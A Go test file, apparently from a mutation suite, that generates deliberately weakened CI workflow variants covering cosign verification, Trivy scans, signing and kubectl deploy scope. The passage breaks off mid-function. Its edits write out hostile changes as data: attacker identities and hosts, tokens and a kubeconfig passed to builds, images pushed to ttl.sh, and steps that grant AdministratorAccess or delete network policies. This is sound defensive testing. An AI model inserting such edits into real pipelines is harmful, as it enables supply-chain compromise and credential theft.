package workflows

import (
	"fmt"
	"maps"
	"slices"
	"strconv"
	"strings"

	"github.com/platform-template/template-api/test/workflows/mutate"
	"github.com/platform-template/template-api/test/workflows/pins"
	"go.yaml.in/yaml/v4"
)

// Patterns that are not literal: identities, issuers, credentials under any name, pins that
// lie about their version, look-alike owners, compromised and retired releases.

// identities are ways to trust more than this repository's build on main.
var identities = map[string]func(s string) string{
	"identity as a regular expression .*": func(s string) string {
		return strings.ReplaceAll(s, `--certificate-identity "$identity"`, `--certificate-identity-regexp '.*'`)
	},
	"identity as an unanchored regular expression": func(s string) string {
		return strings.ReplaceAll(s, `--certificate-identity "$identity"`, `--certificate-identity-regexp 'build-scan-sign.yaml'`)
	},
	"identity of any owner, anchored": func(s string) string {
		return strings.ReplaceAll(s, `--certificate-identity "$identity"`, `--certificate-identity-regexp '^https://github\.com/[^/]+/[^/]+/\.github/workflows/build-scan-sign\.yaml@refs/heads/main$'`)
	},
	"identity of another repository": func(s string) string {
		return strings.ReplaceAll(s, "https://github.com/${GITHUB_REPOSITORY}/", "https://github.com/attacker/fork/")
	},
	"identity of another branch": func(s string) string { return strings.ReplaceAll(s, "@refs/heads/main", "@refs/heads/dev") },
	"identity of the run's own ref": func(s string) string {
		return strings.ReplaceAll(s, "@refs/heads/main", "@${GITHUB_REF}")
	},
	"identity of a workflow that does not sign": func(s string) string {
		return strings.ReplaceAll(s, "build-scan-sign.yaml@", "ci.yaml@")
	},
	"identity dropped": func(s string) string { return strings.ReplaceAll(s, `--certificate-identity "$identity"`, "") },
	"issuer of another provider": func(s string) string {
		return strings.ReplaceAll(s, "https://token.actions.githubusercontent.com", "https://accounts.google.com")
	},
	"issuer over http": func(s string) string {
		return strings.ReplaceAll(s, "https://token.actions.githubusercontent.com", "http://token.actions.githubusercontent.com")
	},
	"issuer as a regular expression": func(s string) string {
		return strings.ReplaceAll(s, "--certificate-oidc-issuer https://token.actions.githubusercontent.com", "--certificate-oidc-issuer-regexp '.*'")
	},
	"issuer of a look-alike host": func(s string) string {
		return strings.ReplaceAll(s, "https://token.actions.githubusercontent.com", "https://token.actions.githubusercontent.com.attacker.example")
	},
	"identity in a variable the script reassigns": func(s string) string {
		return strings.Replace(s, "cosign verify", "identity=\"https://github.com/attacker/fork/.github/workflows/build-scan-sign.yaml@refs/heads/main\"\ncosign verify", 1)
	},
}

func patternOps() []operator {
	var ops []operator
	for _, name := range sortedKeys(identities) {
		edit := identities[name]
		ops = append(ops, operator{"patterns", "verification: " + name, "verify-before-deploy", func(g *gen) []variant {
			return g.steps(verifyStep, editScript(edit))
		}})
	}
	roleStep := func(p place) bool {
		return p.step != nil && mutate.Uses(p.step) == "aws-actions/configure-aws-credentials"
	}
	ops = append(ops,
		operator{"patterns", "AWS keys from secrets under another name", "no-static-cloud-credentials", func(g *gen) []variant {
			return g.steps(roleStep, func(p place) bool {
				w := with(p.step)
				mutate.Delete(w, "role-to-assume")
				mutate.SetStr(w, "aws-access-key-id", "${{ secrets.CI_KEY }}")
				mutate.SetStr(w, "aws-secret-access-key", "${{ secrets.CI_SECRET }}")
				return true
			})
		}},
		operator{"patterns", "a long-lived key in a job variable", "no-static-cloud-credentials", func(g *gen) []variant {
			return g.jobs(func(p place) bool { return jobUses(p.job.Node, "aws-actions/configure-aws-credentials") }, setEnv("AWS_ACCESS_KEY_ID", "${{ vars.CI_ACCESS_KEY_ID }}"))
		}},
		operator{"patterns", "a personal access token for gh", "no-static-cloud-credentials", func(g *gen) []variant {
			return g.steps(func(p place) bool { return p.step != nil && stepRuns(p.step, "gh") }, setEnv("GH_TOKEN", "${{ secrets.RELEASE_BOT_PAT }}"))
		}},
		operator{"patterns", "a kubeconfig from secrets", "no-static-cloud-credentials", func(g *gen) []variant {
			return g.steps(deployStep, setEnv("KUBE_CONFIG_DATA", "${{ secrets.KUBECONFIG_PROD }}"))
		}},
		operator{"patterns", "a registry password for docker login", "no-static-cloud-credentials", func(g *gen) []variant {
			return g.jobs(pushJob, func(p place) bool {
				return insertBefore(p.job.Node, func(s *yaml.Node) bool { return pushStep(place{step: s}) },
					mutate.Node("uses: docker/login-action@0123456789abcdef0123456789abcdef01234567 # v4.0.0\nwith:\n  registry: ghcr.io\n  username: bot\n  password: ${{ secrets.REGISTRY_PASSWORD }}"))
			})
		}},
	)
	// Pins that lie: another release's SHA under this comment; an unknown SHA.
	tab, _ := pins.Load()
	ops = append(ops,
		operator{"patterns", "a pinned SHA from another release than its comment", "action-release", func(g *gen) []variant {
			return firstUseOfEachAction(g, func(p place, repo, sha, comment string) bool {
				for _, r := range tab.Releases() {
					if r.Action == repo && r.Commit != sha {
						mutate.SetStr(p.step, "uses", strings.Split(mutate.Str(p.step, "uses"), "@")[0]+"@"+r.Commit)
						p.step.Content[slices.IndexFunc(p.step.Content, func(n *yaml.Node) bool { return n.Value == "uses" })+1].LineComment = "# " + comment
						return true
					}
				}
				return false
			})
		}},
		operator{"patterns", "a SHA no release has", "action-release", func(g *gen) []variant {
			return first(4, firstUseOfEachAction(g, func(p place, repo, sha, comment string) bool {
				u := mutate.Get(p.step, "uses")
				name := strings.Split(u.Value, "@")[0]
				*u = *mutate.Scalar(name + "@" + strings.Repeat("0", 39) + "1")
				u.LineComment = "# " + comment
				return true
			}))
		}},
		operator{"patterns", "a look-alike owner", "action-owners", func(g *gen) []variant {
			seen := map[string]bool{}
			return firstUseOfEachAction(g, func(p place, repo, sha, comment string) bool {
				owner := strings.Split(repo, "/")[0]
				if seen[owner] {
					return false
				}
				seen[owner] = true
				u := mutate.Get(p.step, "uses")
				u.Value = typo(owner) + strings.TrimPrefix(u.Value, owner)
				return true
			})
		}},
		operator{"patterns", "trivy-action at a release whose tag was compromised", "compromised-releases", func(g *gen) []variant {
			return g.steps(trivyStep, func(p place) bool {
				u := mutate.Get(p.step, "uses")
				u.Value, u.LineComment = "aquasecurity/trivy-action@c1824fd6edce30d7ab345a9989de00bbd46ef284", "# v0.34.0"
				return true
			})
		}},
		operator{"patterns", "trivy-action by the compromised tag 0.34.2", "compromised-releases", func(g *gen) []variant {
			return first(1, g.steps(trivyStep, func(p place) bool {
				u := mutate.Get(p.step, "uses")
				u.Value, u.LineComment = "aquasecurity/trivy-action@0.34.2", ""
				return true
			}))
		}},
	)
	for _, v := range []string{"v0.69.4", "v0.69.5", "v0.69.6"} {
		ops = append(ops, operator{"patterns", "the malicious Trivy " + v, "compromised-releases", func(g *gen) []variant {
			return first(1, g.steps(buildScan, setWith("version", v)))
		}})
	}
	retired := map[string]string{} // action -> a listed release on a retired runtime
	for _, r := range tab.Releases() {
		if _, old := pins.RetiredRuntimes[r.Runs]; old {
			if cur, ok := retired[r.Action]; !ok || cur < r.Version {
				retired[r.Action] = r.Version
			}
		}
	}
	ops = append(ops, operator{"patterns", "an action release on Node 20", "retired-runtime", func(g *gen) []variant {
		return firstUseOfEachAction(g, func(p place, repo, sha, comment string) bool {
			v, ok := retired[repo]
			if !ok {
				return false
			}
			r, _ := tab.Version(repo, v)
			u := mutate.Get(p.step, "uses")
			u.Value, u.LineComment = strings.Split(u.Value, "@")[0]+"@"+r.Commit, "# "+r.Version
			return true
		})
	}})
	return ops
}

func pushJob(p place) bool { return pushesJob(p.job.Node) }

// typo misspells an owner the way a squatter would.
func typo(owner string) string {
	switch {
	case len(owner) > 4:
		return owner[:2] + owner[3:] // drop a letter: dockr, aquasecurty
	default:
		return owner + "s"
	}
}

// firstUseOfEachAction calls edit on the first step using each pinned action.
func firstUseOfEachAction(g *gen, edit func(p place, repo, sha, comment string) bool) []variant {
	seen := map[string]bool{}
	return g.steps(func(p place) bool {
		u := mutate.Str(p.step, "uses")
		if u == "" || strings.HasPrefix(u, "./") || seen[mutate.Uses(p.step)] {
			return false
		}
		seen[mutate.Uses(p.step)] = true
		return true
	}, func(p place) bool {
		u := mutate.Get(p.step, "uses")
		name, sha, _ := strings.Cut(u.Value, "@")
		parts := strings.SplitN(strings.ToLower(name), "/", 3)
		return edit(p, parts[0]+"/"+parts[1], sha, strings.TrimSpace(strings.TrimPrefix(u.LineComment, "#")))
	})
}

// Weakened gates: scanners narrowed, another image scanned, ignore files, dropped attestation
// checks, insecure flags, more than the deployer's objects applied, lint switched off.

var scanWeakenings = map[string][2]string{
	"scanners narrowed to misconfig":  {"scanners", "misconfig"},
	"scanners narrowed to secrets":    {"scanners", "secret"},
	"package types narrowed to os":    {"vuln-type", "os"},
	"severity CRITICAL only":          {"severity", "CRITICAL"},
	"severity HIGH only":              {"severity", "HIGH"},
	"exit-code 0":                     {"exit-code", "0"},
	"exit-code from a variable":       {"exit-code", "${{ vars.SCAN_EXIT_CODE }}"},
	"an ignore file":                  {"trivyignores", ".trivyignore"},
	"skipped directories":             {"skip-dirs", "/app,/usr"},
	"skipped files":                   {"skip-files", "/app/api"},
	"an ignore policy":                {"ignore-policy", "policy.rego"},
	"a config file":                   {"trivy-config", "trivy.yaml"},
	"Trivy not installed by the step": {"skip-setup-trivy", "true"},
	"a database from elsewhere":       {"db-repository", "ghcr.io/attacker/trivy-db"},
	"another Docker daemon":           {"docker-host", "tcp://203.0.113.7:2375"},
}

func weakenedOps() []operator {
	var ops []operator
	for _, name := range sortedKeys(scanWeakenings) {
		kv := scanWeakenings[name]
		ops = append(ops, operator{"weakened", "scan: " + name, "scan-settings", func(g *gen) []variant {
			return g.steps(trivyStep, func(p place) bool {
				config := mutate.Str(with(p.step), "scan-type") == "config"
				switch {
				case kv[0] == "scanners" && kv[1] == "misconfig" && config:
					mutate.SetStr(with(p.step), "scanners", "secret")
					return true
				case kv[0] == "vuln-type" && config:
					return false // a configuration scan has no packages
				}
				mutate.SetStr(with(p.step), kv[0], kv[1])
				return true
			})
		}})
	}
	ops = append(ops,
		operator{"weakened", "scan exit-code removed", "scan-settings", func(g *gen) []variant {
			return g.steps(trivyStep, func(p place) bool { return mutate.Delete(with(p.step), "exit-code") })
		}},
		operator{"weakened", "Trivy told to ignore a file by a job variable", "scan-settings", func(g *gen) []variant {
			return g.jobs(func(p place) bool { return jobUses(p.job.Node, "aquasecurity/trivy-action") }, setEnv("TRIVY_IGNOREFILE", "ci/ignore"))
		}},
		operator{"weakened", "Trivy's severity lowered by a step variable", "scan-settings", func(g *gen) []variant {
			return g.steps(trivyStep, setEnv("TRIVY_SEVERITY", "LOW"))
		}},
		operator{"weakened", "a .trivyignore at the root of the checkout", "scan-settings", func(g *gen) []variant {
			files := g.base.Clone()
			files[".trivyignore"] = []byte("CVE-2026-0001\n")
			return []variant{{target: ".trivyignore", files: files}}
		}},
		operator{"weakened", "a trivy.yaml at the root of the checkout", "scan-settings", func(g *gen) []variant {
			files := g.base.Clone()
			files["trivy.yaml"] = []byte("severity: [LOW]\n")
			return []variant{{target: "trivy.yaml", files: files}}
		}},
	)
	for name, ref := range map[string]string{"another image": "alpine:3.20", "the registry's latest": "${{ env.IMAGE }}:latest"} {
		ops = append(ops, operator{"weakened", "the scan points at " + name, "scan-before-push", func(g *gen) []variant {
			return g.steps(buildScan, setWith("image-ref", ref))
		}})
	}
	ops = append(ops,
		operator{"weakened", "the scan scans the file system instead of the image", "scan-before-push", func(g *gen) []variant {
			return g.steps(buildScan, func(p place) bool {
				mutate.SetStr(with(p.step), "scan-type", "fs")
				mutate.SetStr(with(p.step), "scan-ref", ".")
				return true
			})
		}},
		operator{"weakened", "the scan reads an archive", "scan-before-push", func(g *gen) []variant {
			return g.steps(buildScan, setWith("input", "image.tar"))
		}},
	)
	for in, v := range map[string]string{"file": "Dockerfile.release", "context": "./other", "build-args": "VARIANT=debug", "target": "debug", "platforms": "linux/arm64",
		"no-cache": "true", "no-cache-filters": "build"} {
		ops = append(ops, operator{"weakened", "the push builds with another " + in + " than the scanned build", "scan-before-push", func(g *gen) []variant {
			return g.steps(pushStep, setWith(in, v))
		}})
	}
	// Where the pushed image goes, and what its build reaches.
	buildInputs := map[string]string{
		"a second tag in a public registry":  "${{ env.IMAGE }}:sha-${{ github.sha }}\nttl.sh/template-api-${{ github.run_id }}:1h",
		"a second tag in another repository": "${{ env.IMAGE }}:sha-${{ github.sha }},${{ vars.ECR_REGISTRY }}/mirror:latest",
	}
	for _, name := range slices.Sorted(maps.Keys(buildInputs)) {
		ops = append(ops, operator{"supply", "the push sends the image to " + name, "image-builds", func(g *gen) []variant {
			return g.steps(pushStep, setWith("tags", buildInputs[name]))
		}})
	}
	for in, v := range map[string]string{"outputs": "type=registry,name=ttl.sh/template-api:1h", "allow": "security.insecure", "network": "host",
		"add-hosts": "proxy.golang.org=203.0.113.7", "builder": "remote-buildkit",
		"secret-envs": "GH=GITHUB_TOKEN", "secrets": "token=${{ github.token }}", "ssh": "default", "secret-files": "kube=/home/runner/.kube/config"} {
		ops = append(ops, operator{"supply", "the build given " + in, "image-builds", func(g *gen) []variant {
			return g.steps(func(p place) bool { return p.step != nil && mutate.Uses(p.step) == "docker/build-push-action" }, setWith(in, v))
		}})
	}
	// Verification weakened.
	ops = append(ops,
		operator{"weakened", "the build's own check of its signature trusts another issuer", "verify-settings", func(g *gen) []variant {
			return g.steps(buildVerifyStep, func(p place) bool {
				mutate.SetStr(p.step, "run", identities["issuer of another provider"](mutate.Str(p.step, "run")))
				return true
			})
		}},
		operator{"weakened", "the build's own check of its signature skips the transparency log", "verify-settings", func(g *gen) []variant {
			return g.steps(buildVerifyStep, func(p place) bool {
				return editRun(p.step, []string{"cosign", "verify"}, func(s string, c mutate.Command) string {
					return c.ReplaceCommand(s, func(x string) string {
						return strings.Replace(x, "cosign verify", "cosign verify --insecure-ignore-tlog", 1)
					})
				})
			})
		}},
		operator{"weakened", "the build's own check of its signature matches any identity", "verify-settings", func(g *gen) []variant {
			return g.steps(buildVerifyStep, replaceInRun(`--certificate-identity "$identity"`, `--certificate-identity-regexp '.*'`, -1))
		}},
		operator{"weakened", "attestation verification dropped", "verify-before-deploy", func(g *gen) []variant {
			return g.steps(verifyStep, func(p place) bool {
				script := mutate.Str(p.step, "run")
				c, ok := mutate.FindCommand(script, "cosign", "verify-attestation")
				if !ok {
					return false
				}
				mutate.SetStr(p.step, "run", c.ReplaceStatement(script, func(string) string { return "true" }))
				return true
			})
		}},
		// Each piece of evidence admission demands is verified before the deploy, not just one.
		operator{"weakened", "provenance verification dropped, the SBOM's kept", "verify-before-deploy", func(g *gen) []variant {
			return g.steps(verifyStep, replaceInRun("verify-attestation --type slsaprovenance1", "verify-attestation --type cyclonedx", 1))
		}},
		operator{"weakened", "attestation of a type the build never attests", "verify-before-deploy", func(g *gen) []variant {
			return g.steps(verifyStep, replaceInRun("verify-attestation --type cyclonedx", "verify-attestation --type custom", 1))
		}},
	)
	for _, flag := range []string{"--insecure-ignore-tlog", "--insecure-ignore-sct", "--allow-insecure-registry", "--private-infrastructure", "--check-claims=false", "--key cosign.pub"} {
		ops = append(ops, operator{"weakened", "verification with " + flag, "verify-before-deploy", func(g *gen) []variant {
			return g.steps(verifyStep, func(p place) bool {
				return editRun(p.step, []string{"cosign", "verify"}, func(s string, c mutate.Command) string {
					return c.ReplaceCommand(s, func(x string) string { return strings.Replace(x, "cosign verify", "cosign verify "+flag, 1) })
				})
			})
		}})
	}
	// Apply scope. applyAs runs the apply as the command given instead.
	applyAs := func(with string) func(s string) string {
		return func(s string) string { return strings.ReplaceAll(s, "kubectl apply", with) }
	}
	applies := map[string]func(s string) string{
		"selector removed":             func(s string) string { return strings.ReplaceAll(s, " --selector "+selector, "") },
		"selector of every app object": func(s string) string { return strings.ReplaceAll(s, selector, "app.kubernetes.io/name=template-api") },
		"selector that matches all": func(s string) string {
			return strings.ReplaceAll(s, selector, "platform-template.io/applied-by!=nobody")
		},
		"the base instead of the overlay": func(s string) string {
			return strings.ReplaceAll(s, `-k "$OVERLAY"`, "-k k8s/base")
		},
		"raw files instead of the overlay": func(s string) string {
			return strings.ReplaceAll(s, `-k "$OVERLAY"`, "-f k8s/ --recursive")
		},
		"--force":                             func(s string) string { return strings.ReplaceAll(s, "kubectl apply", "kubectl apply --force") },
		"as another identity (--as)":          applyAs("kubectl --as system:admin apply"),
		"as another group (--as-group)":       applyAs("kubectl apply --as-group=system:masters --as ci"),
		"on another context":                  applyAs("kubectl apply --context admin"),
		"on another API server (-s attached)": applyAs("kubectl -shttps://203.0.113.7:6443 apply"),
		"with a token of its own":             applyAs(`kubectl apply --token "$ADMIN_TOKEN"`),
		"without TLS verification":            applyAs("kubectl apply --insecure-skip-tls-verify"),
		"into another namespace":              applyAs("kubectl apply -n kube-system"),
		"taking over other managers' fields":  applyAs("kubectl apply --server-side --force-conflicts"),
		"as another field manager":            applyAs("kubectl apply --server-side --field-manager=kube-controller-manager"),
		"--prune":                             func(s string) string { return strings.ReplaceAll(s, "kubectl apply", "kubectl apply --prune") },
		"from another directory (cd)":         applyAs(`cd "$RUNNER_TEMP" && kubectl apply`),
		"from another directory (pushd)":      applyAs(`pushd "$RUNNER_TEMP" && kubectl apply`),
		"run by find -exec on every kustomization": func(s string) string {
			return strings.ReplaceAll(s, `kubectl apply -k "$OVERLAY"`, `find k8s -name kustomization.yaml -execdir kubectl apply -k . \;`)
		},
		"rendered by kustomize with Helm charts fetched at build time": func(s string) string {
			return strings.ReplaceAll(s, `kubectl apply -k "$OVERLAY"`, `kustomize build --enable-helm "$OVERLAY" | kubectl apply -f -`)
		},
		"rendered by kustomize running the overlay's programs": func(s string) string {
			return strings.ReplaceAll(s, `kubectl apply -k "$OVERLAY"`, `kubectl kustomize --enable-alpha-plugins --enable-exec "$OVERLAY" | kubectl apply -f -`)
		},
		"rendered by kustomize reading files outside the overlay": func(s string) string {
			return strings.ReplaceAll(s, `kubectl apply -k "$OVERLAY"`, `kustomize build --load-restrictor LoadRestrictionsNone "$OVERLAY" | kubectl apply -f -`)
		},
		"run by su -c without the selector": func(s string) string {
			return strings.ReplaceAll(s, `kubectl apply -k "$OVERLAY" --selector `+selector, `su -c 'kubectl apply -k "$OVERLAY"' runner`)
		},
	}
	for _, name := range sortedKeys(applies) {
		edit := applies[name]
		ops = append(ops, operator{"weakened", "apply: " + name, "deploy-scope", func(g *gen) []variant {
			return g.steps(deployStep, editScript(edit))
		}})
	}
	ops = append(ops,
		operator{"weakened", "the other environment's overlay", "deploy-scope", func(g *gen) []variant {
			return g.jobs(func(p place) bool {
				return deploysJob(p.job.Node) && mutate.Str(mutate.Get(p.job.Node, "env"), "OVERLAY") != ""
			}, func(p place) bool {
				env := mutate.Get(p.job.Node, "env")
				o := mutate.Str(env, "OVERLAY")
				other := strings.Replace(o, "staging", "production", 1)
				if other == o {
					other = strings.Replace(o, "production", "staging", 1)
				}
				mutate.SetStr(env, "OVERLAY", other)
				return true
			})
		}},
		operator{"weakened", "a cluster change after the verification that is not the overlay apply", "deploy-scope", func(g *gen) []variant {
			return g.jobs(func(p place) bool { return deploysJob(p.job.Node) }, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node(`run: kubectl -n template-api delete networkpolicy --all`))
				return true
			})
		}},
		operator{"weakened", "the apply runs in another working-directory", "deploy-scope", func(g *gen) []variant {
			return g.steps(deployStep, setKey("working-directory", "${{ runner.temp }}"))
		}},
		operator{"weakened", "a kubeconfig that assumes another role", "deploy-scope", func(g *gen) []variant {
			return g.steps(kubeconfigStep, editScript(func(s string) string {
				return strings.Replace(s, "update-kubeconfig", "update-kubeconfig --role-arn arn:aws:iam::123456789012:role/cluster-admin", 1)
			}))
		}},
		operator{"weakened", "a kubeconfig written over the checkout", "reviewed-inputs", func(g *gen) []variant {
			return g.steps(kubeconfigStep, editScript(func(s string) string {
				return strings.Replace(s, "update-kubeconfig", `update-kubeconfig --kubeconfig "$OVERLAY/kustomization.yaml"`, 1)
			}))
		}},
		operator{"weakened", "a deploy job reaches the cluster around kubectl", "deploy-scope", func(g *gen) []variant {
			var out []variant
			for _, run := range []string{
				`curl -sf -X PATCH -H "Authorization: Bearer $(aws eks get-token --cluster-name "$EKS_CLUSTER_NAME" --output text --query status.token)" "https://$API/apis/apps/v1/namespaces/template-api/deployments/template-api"`,
				`kubectl proxy --port 8001 & sleep 2; wget -qO- --method=DELETE http://127.0.0.1:8001/api/v1/namespaces/template-api/pods`,
				`kubectl auth reconcile -f k8s/extra/rbac.yaml`,
				`kubectl certificate approve node-csr-x`,
				`kubectl port-forward -n template-api svc/template-api 8080:8080 &`,
				`kubectl slurp -n template-api`,
				`aws eks update-cluster-config --name "$EKS_CLUSTER_NAME" --resources-vpc-config endpointPublicAccess=true`,
				`aws iam attach-role-policy --role-name deployer --policy-arn arn:aws:iam::aws:policy/AdministratorAccess`,
			} {
				out = append(out, first(1, g.jobs(func(p place) bool { return deploysJob(p.job.Node) }, func(p place) bool {
					mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node("run: "+strconv.Quote(run)))
					return true
				}))...)
			}
			return out
		}},
		operator{"supply", "a privileged job checks out code its run is not for", "trusted-checkout", func(g *gen) []variant {
			var out []variant
			for _, edit := range []func(with *yaml.Node){
				func(w *yaml.Node) { mutate.SetStr(w, "ref", "${{ github.event.workflow_run.head_branch }}") },
				func(w *yaml.Node) { mutate.SetStr(w, "ref", "${{ github.head_ref || github.sha }}") },
				func(w *yaml.Node) { mutate.SetStr(w, "ref", "refs/heads/release") },
				func(w *yaml.Node) {
					mutate.SetStr(w, "repository", "${{ github.event.workflow_run.head_repository.full_name }}")
				},
				func(w *yaml.Node) { mutate.SetStr(w, "submodules", "recursive") },
				func(w *yaml.Node) { mutate.SetStr(w, "github-server-url", "https://git.example.net") },
			} {
				out = append(out, g.steps(func(p place) bool {
					return privilegedJob(p) && strings.HasPrefix(mutate.Uses(p.step), "actions/checkout")
				}, func(p place) bool {
					edit(mutate.Map(p.step, "with"))
					return true
				})...)
			}
			return out
		}},
		operator{"supply", "a privileged job's script switches to other code", "trusted-checkout", func(g *gen) []variant {
			var out []variant
			for _, run := range []string{`git fetch origin "$REF" && git checkout FETCH_HEAD`, `git -C . pull --ff-only origin dev`, `gh pr checkout "$PR"`, `git clone https://github.com/someone/tools .tools-src`} {
				out = append(out, first(2, g.jobs(privilegedJob, func(p place) bool {
					mutate.InsertStep(p.job.Node, 1, mutate.Node("run: "+strconv.Quote(run)))
					return true
				}))...)
			}
			return out
		}},
		operator{"weakened", "no wait for the rollout", "deploy-environment", func(g *gen) []variant {
			return g.steps(func(p place) bool {
				return p.step != nil && slices.ContainsFunc(runCmds(p.step), func(c mutate.Command) bool { return c.Has("kubectl", "rollout", "status") })
			}, func(p place) bool {
				mutate.RemoveStep(p.job.Node, p.step)
				return true
			})
		}},
		operator{"weakened", "a deploy outside its environment", "deploy-environment", func(g *gen) []variant {
			return g.jobs(func(p place) bool { return deploysJob(p.job.Node) || appliesTerraform(p.job.Node) }, func(p place) bool {
				return mutate.Delete(p.job.Node, "environment")
			})
		}},
		operator{"weakened", "the environment chosen by the run", "deploy-environment", func(g *gen) []variant {
			return g.jobs(func(p place) bool { return deploysJob(p.job.Node) || appliesTerraform(p.job.Node) }, setKey("environment", yamlString("${{ vars.TARGET_ENVIRONMENT }}")))
		}},
	)
	// Lint switched off by CI itself.
	prTrigger := func(f string, d *mutate.Doc) bool {
		return (f == ".github/workflows/ci.yaml" || f == ".github/workflows/e2e.yaml") && mutate.Get(d.Root, "on") != nil
	}
	for name, snippet := range map[string]string{
		"paths-ignore the workflows": "{paths-ignore: ['.github/**']}",
		"paths: only the service":    "{paths: ['src/**']}",
		"types: labeled only":        "{types: [labeled]}",
		"branches: release only":     "{branches: ['release/**']}",
	} {
		ops = append(ops, operator{"weakened", "CI on pull requests: " + name, "required-checks", func(g *gen) []variant {
			return g.workflows(prTrigger, func(f string, d *mutate.Doc) bool {
				mutate.Set(mutate.Get(d.Root, "on"), "pull_request", mutate.Node(snippet))
				return true
			})
		}})
	}
	ops = append(ops,
		operator{"weakened", "CI no longer runs on pull requests", "required-checks", func(g *gen) []variant {
			return g.workflows(prTrigger, func(f string, d *mutate.Doc) bool { return mutate.Delete(mutate.Get(d.Root, "on"), "pull_request") })
		}},
		operator{"weakened", "the test matrix is a fixed list that leaves test-workflows out", "required-checks", func(g *gen) []variant {
			return g.jobs(func(p place) bool {
				return requiredJob(p) && mutate.Get(mutate.Get(mutate.Get(p.job.Node, "strategy"), "matrix"), "target") != nil
			}, func(p place) bool {
				mutate.Set(mutate.Get(mutate.Get(p.job.Node, "strategy"), "matrix"), "target", mutate.Node("[test-manifests, test-policies]"))
				return true
			})
		}},
		// Signing weakened.
		operator{"weakened", "signature kept out of the transparency log", "keyless-signing", func(g *gen) []variant {
			return signEdit(g, "cosign sign --yes", "cosign sign --yes --tlog-upload=false")
		}},
		operator{"weakened", "signing with a key from a secret", "keyless-signing", func(g *gen) []variant {
			return signEdit(g, "cosign sign --yes", "cosign sign --yes --key env://COSIGN_PRIVATE_KEY")
		}},
		operator{"weakened", "signing with a token from elsewhere", "keyless-signing", func(g *gen) []variant {
			return signEdit(g, "cosign sign --yes", `cosign sign --yes --identity-token "$(cat /tmp/token)"`)
		}},
		operator{"weakened", "signing by tag", "digest-references", func(g *gen) []variant {
			return signEdit(g, `cosign sign --yes "${IMAGE}@${DIGEST}"`, `cosign sign --yes "${IMAGE}:sha-${GITHUB_SHA}"`)
		}},
		operator{"weakened", "signing a digest the push did not report", "digest-references", func(g *gen) []variant {
			return g.steps(func(p place) bool { return p.step != nil && stepRuns(p.step, "cosign", "sign") }, setEnv("DIGEST", "${{ steps.scan.outputs.digest }}"))
		}},
		operator{"weakened", "attesting before signing", "digest-references", func(g *gen) []variant {
			return g.jobs(func(p place) bool {
				return jobRuns(p.job.Node, "cosign", "attest") && jobRuns(p.job.Node, "cosign", "sign")
			}, func(p place) bool {
				steps := mutate.Steps(p.job.Node)
				si := slices.IndexFunc(steps, func(s *yaml.Node) bool { return stepRuns(s, "cosign", "sign") })
				ai := slices.IndexFunc(steps, func(s *yaml.Node) bool { return stepRuns(s, "cosign", "attest") })
				if si < 0 || ai < si {
					return false
				}
				a := steps[ai]
				mutate.RemoveStep(p.job.Node, a)
				mutate.InsertStep(p.job.Node, si, a)
				return true
			})
		}},
		// The evidence admission demands, attested with cosign: each one dropped, or the SBOM in
		// a format the policy does not take.
		operator{"weakened", "the provenance never attested", "build-evidence", func(g *gen) []variant {
			return g.steps(attestsStep("slsaprovenance1"), dropAttest("slsaprovenance1"))
		}},
		operator{"weakened", "the SBOM never attested", "build-evidence", func(g *gen) []variant {
			return g.steps(attestsStep("cyclonedx"), dropAttest("cyclonedx"))
		}},
		operator{"weakened", "the SBOM attested as SPDX", "build-evidence", func(g *gen) []variant {
			return g.steps(attestsStep("cyclonedx"), replaceInRun("--type cyclonedx", "--type spdxjson", 1))
		}},
		// Same digest everywhere: the provenance attached to another reference than the one
		// signed (here another repository at the same digest), which admission never reads.
		operator{"weakened", "the provenance attested on another reference than the signed one", "digest-references", func(g *gen) []variant {
			return g.steps(attestsStep("slsaprovenance1"), func(p place) bool {
				old := mutate.Str(p.step, "run")
				c, ok := findAttest(old, "slsaprovenance1")
				if !ok {
					return false
				}
				mutate.SetStr(p.step, "run", c.ReplaceStatement(old, func(x string) string {
					return strings.Replace(x, `"${IMAGE}@`, `"${IMAGE}-provenance@`, 1)
				}))
				return mutate.Str(p.step, "run") != old
			})
		}},
		operator{"weakened", "the overlay set to the image by tag", "digest-references", func(g *gen) []variant {
			return g.steps(func(p place) bool { return p.step != nil && stepRuns(p.step, "kustomize", "edit") }, replaceInRun("@${DIGEST}", ":main", -1))
		}},
	)
	return ops
}

// buildVerifyStep matches a cosign verify in a job that does not deploy (the build's own check).
func buildVerifyStep(p place) bool {
	return p.step != nil && stepRuns(p.step, "cosign", "verify") && !deploysJob(p.job.Node)
}

func setWithRaw(key, value string) func(p place) bool {
	return func(p place) bool { mutate.Set(with(p.step), key, mutate.Node(value)); return true }
}

func signEdit(g *gen, old, new string) []variant {
	return g.steps(func(p place) bool { return p.step != nil && stepRuns(p.step, "cosign", "sign") }, func(p place) bool {
		s := mutate.Str(p.step, "run")
		if !strings.Contains(s, old) {
			return false
		}
		mutate.SetStr(p.step, "run", strings.Replace(s, old, new, 1))
		return true
	})
}

// Supply: tools and images at moving versions.

func supplyOps() []operator {
	var ops []operator
	for action, input := range map[string]string{"azure/setup-kubectl": "version", "hashicorp/setup-terraform": "terraform_version", "actions/setup-go": "go-version", "aquasecurity/trivy-action": "version"} {
		for _, v := range []string{"latest", "stable", "1.x"} {
			ops = append(ops, operator{"supply", action + " " + input + ": " + v, "pinned-tools", func(g *gen) []variant {
				return first(1, g.steps(func(p place) bool { return p.step != nil && mutate.Uses(p.step) == action }, setWith(input, v)))
			}})
		}
	}
	ops = append(ops,
		operator{"supply", "an action by tag", "pinned-actions", func(g *gen) []variant {
			return firstUseOfEachAction(g, func(p place, repo, sha, comment string) bool {
				u := mutate.Get(p.step, "uses")
				u.Value, u.LineComment = strings.Split(u.Value, "@")[0]+"@"+strings.SplitN(comment, ".", 2)[0], ""
				return true
			})
		}},
		operator{"supply", "an action pinned without its version comment", "pinned-actions", func(g *gen) []variant {
			return first(5, firstUseOfEachAction(g, func(p place, repo, sha, comment string) bool {
				mutate.Get(p.step, "uses").LineComment = ""
				return true
			}))
		}},
		operator{"supply", "a service container by tag", "pinned-images", func(g *gen) []variant {
			return g.jobs(func(p place) bool { return mutate.Get(p.job.Node, "services") != nil }, func(p place) bool {
				svcs := mutate.Get(p.job.Node, "services")
				for i := 1; i < len(svcs.Content); i += 2 {
					img := mutate.Get(svcs.Content[i], "image")
					img.Value = strings.Split(img.Value, "@")[0]
				}
				return true
			})
		}},
		operator{"supply", "BuildKit from its default tag", "pinned-images", func(g *gen) []variant {
